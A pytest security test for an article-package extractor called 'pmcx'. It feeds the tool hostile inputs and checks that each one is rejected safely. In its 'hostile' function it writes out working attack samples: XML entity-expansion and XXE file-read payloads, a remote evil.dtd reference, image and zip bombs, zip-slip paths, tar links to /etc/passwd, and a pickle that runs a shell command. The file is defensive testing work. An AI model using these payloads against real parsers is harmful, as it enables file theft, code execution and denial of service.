"""A batch of hostile packages beside good ones: a failure for each, the rest unharmed, nothing outside."""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

import pmcx
from pmcx.core.books import read_books
from pmcx.core.rundir import RunFolder

ARTICLE = """<?xml version="1.0"?>{doctype}
<article xmlns:xlink="http://www.w3.org/1999/xlink" article-type="research-article"><front><article-meta>
<article-id pub-id-type="pmcid">PMC{number}</article-id>
<title-group><article-title>Title {number}{entity}</article-title></title-group>
<permissions><license xlink:href="https://creativecommons.org/licenses/by/4.0/"/></permissions>
</article-meta></front><body><p>See <xref ref-type="fig" rid="F1">Fig. 1</xref>.</p>
<fig id="F1"><label>Figure 1</label><caption><p>(A) One. (B) Two.</p></caption>
<graphic xlink:href="{href}"/></fig></body></article>"""


def article(number: int, href: str = "f1.png", doctype: str = "", entity: str = "") -> bytes:
    return ARTICLE.format(number=number, href=href, doctype=doctype, entity=entity).encode()


def png(width: int = 200, height: int = 100) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.effect_noise((width, height), 90).convert("RGB").save(out, "PNG")
    return out.getvalue()


def huge_png(side: int = 20_000) -> bytes:
    """A valid header of side x side pixels, and a few compressed zeros."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def folder(root: Path, number: int, xml: bytes, image: bytes | None = None) -> None:
    package = root / f"package{number}"
    package.mkdir()
    (package / "article.nxml").write_bytes(xml)
    if image is not None:
        (package / "f1.png").write_bytes(image)


def zipped(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def tarred(path: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> None:
    with tarfile.open(path, "w:gz") as archive:
        for info, data in members:
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data) if data else None)


def link(name: str, target: str, kind: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, b""


LAUGHS = (
    '<!DOCTYPE article [<!ENTITY a "ha ha ha ha ha ha ha ha ha ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


def hostile(root: Path, secret: Path) -> None:
    """Packages 1 to 5 are good; the others are not."""
    for number in range(1, 6):
        folder(root, number, article(number), png())
    folder(root, 10, article(10, doctype=LAUGHS, entity="&i;"), png())
    external = f'<!DOCTYPE article [<!ENTITY x SYSTEM "file://{secret}">]>'
    folder(root, 11, article(11, doctype=external, entity="&x;"), png())
    remote = '<!DOCTYPE article SYSTEM "http://198.51.100.7/evil.dtd">'
    folder(root, 12, article(12, doctype=remote), png())
    folder(root, 13, article(13), huge_png())
    folder(root, 14, article(14), png()[:900])
    folder(root, 15, article(15), b"<html><body>404 Not Found</body></html>")
    folder(root, 16, article(16), png(1, 1))
    folder(root, 17, article(17)[:300], png())
    folder(root, 18, article(18, href="../../../secret.txt"), None)
    folder(root, 19, article(19), b"")
    zipped(root / "slip.zip", {"a/article.nxml": article(20), "../../escaped.txt": b"x", "a/f1.png": png()})
    zipped(root / "abs.zip", {"article.nxml": article(21), "/tmp-escaped.txt": b"x", "f1.png": png()})
    zipped(root / "bomb.zip", {"article.nxml": article(22), "f1.png": bytes(300 * 2**20)})
    (root / "cut.zip").write_bytes((root / "slip.zip").read_bytes()[:200])
    (root / "not.tar.gz").write_bytes(b"\x1f\x8b" + os.urandom(500))
    tarred(
        root / "links.tar.gz",
        [
            (tarfile.TarInfo("p/article.nxml"), article(23)),
            link("p/f1.png", str(secret), tarfile.SYMTYPE),
            link("p/f2.png", "../../../../etc/passwd", tarfile.LNKTYPE),
        ],
    )
    (root / "pickle.pkl").write_bytes(b"cos\nsystem\n(S'touch escaped.txt'\ntR.")


GUARD = """
import socket
import pmcx
def refuse(*args, **kwargs):
    open({log!r}, "a").write(repr(args) + "\\n")
    raise OSError("no network in this test")
socket.socket.connect = refuse
socket.getaddrinfo = refuse
"""


def tree(root: Path) -> set[str]:
    return {path.relative_to(root).as_posix() for path in root.rglob("*")}


@pytest.mark.parametrize("workers", ["1", "2"])
def test_hostile_packages_harm_nobody(tmp_path: Path, workers: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the secret")
    root = tmp_path / "in"
    root.mkdir()
    hostile(root, secret)
    log = tmp_path / "network.log"
    guard = tmp_path / "guard"
    guard.mkdir()
    (guard / "network_guard.py").write_text(GUARD.format(log=str(log)))
    out = tmp_path / "out"
    before = tree(tmp_path) - {"out"}
    done = subprocess.run(
        [
            *(
                sys.executable,
                "-m",
                "pmcx",
                "run",
                "--quiet",
                "--json",
                "--source",
                "folder",
                "--input",
                str(root),
            ),
            *(
                "--plugin",
                "network_guard",
                "--workers",
                workers,
                "--out",
                str(out),
                "--set",
                "unit_articles=4",
            ),
        ],
        env={**os.environ, "PYTHONPATH": str(guard)},
        capture_output=True,
        text=True,
        timeout=300,
        cwd=tmp_path,
    )
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert {name for name in tree(tmp_path) if name.split("/")[0] != "out"} == before
    assert not log.exists(), log.read_text()

    told = json.loads(done.stdout)
    books = read_books(RunFolder(out))
    assert books.balanced
    assert told["articles"]["planned"] == books.planned
    assert pmcx.verify(out).ok
    good = {view.record.article for view in pmcx.open(out)}
    assert {f"PMC{number}" for number in range(1, 6)} <= good
    text = b"".join(path.read_bytes() for path in out.rglob("*") if path.is_file())
    assert b"the secret" not in text
    assert b"root:x:" not in text
    why = {failure.id: (failure.kind, failure.error) for failure in books.failures}
    assert all(kind == "input" for kind, _ in why.values()), why

    def reason(number: int, *words: str) -> None:
        found = [error for item, (_, error) in why.items() if item.split("/")[0] == f"PMC{number}"]
        assert found, f"no failure for PMC{number}: {sorted(why)}"
        assert any(word in error for error in found for word in words), found

    check: Callable[..., None] = reason
    check(13, "400000000", "400,000,000", "pixels")
    check(14, "truncated", "end before")
    check(15, "HTML")
    check(19, "empty")
    check(23, "no image file", "link")
    drops = [loss.id for loss in RunFolder(out).losses() if isinstance(loss, pmcx.Drop)]
    assert "PMC16/F1/p1" in drops, "a 1x1 image is too small for a panel, and said to be"
    assert "PMC18/F1" in drops, "a graphic that names no image file, let alone one outside the package"
    assert "max_ratio" in why["bomb.zip"][1]
    assert any("cut.zip" in error for _, error in why.values())
    assert any("not.tar.gz" in error for _, error in why.values())
